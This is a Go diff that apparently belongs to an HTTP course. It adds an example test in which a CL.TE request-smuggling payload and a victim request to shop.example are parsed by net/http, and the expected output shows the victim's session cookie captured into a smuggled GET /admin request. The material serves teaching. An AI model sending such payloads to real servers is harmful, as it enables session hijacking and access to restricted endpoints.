@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"fmt"
 	"io"
+	"net/http"
 	"strings"
 
 	"github.com/httpfromscratch/course/chapters/ch02"
@@ -74,4 +75,36 @@ func ExampleParser() {
 	// Output:
 	// GET /a ""
 	// POST /b "hi"
+}
+
+// Example_clTE feeds the CL.TE attack of the lesson, then a victim's
+// request, to net/http's http.ReadRequest, which lets Transfer-Encoding
+// win: the chunked body ends at "0\r\n\r\n", and what the front end took
+// for the rest of the body becomes the start of a request that the
+// victim's completes.
+func Example_clTE() {
+	attack := "POST /search HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 36\r\n" +
+		"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nX-Ignore: "
+	victim := "GET /account HTTP/1.1\r\nHost: shop.example\r\nCookie: session=victim\r\n\r\n"
+	br := bufio.NewReader(strings.NewReader(attack + victim))
+	for {
+		req, err := http.ReadRequest(br)
+		if err != nil {
+			fmt.Println(err)
+			return
+		}
+		body, _ := io.ReadAll(req.Body)
+		fmt.Printf("%s %s body=%q\n", req.Method, req.URL.Path, body)
+		for _, name := range []string{"X-Ignore", "Cookie"} {
+			if v := req.Header.Get(name); v != "" {
+				fmt.Printf("    %s: %s\n", name, v)
+			}
+		}
+	}
+	// Output:
+	// POST /search body=""
+	// GET /admin body=""
+	//     X-Ignore: GET /account HTTP/1.1
+	//     Cookie: session=victim
+	// EOF
 }
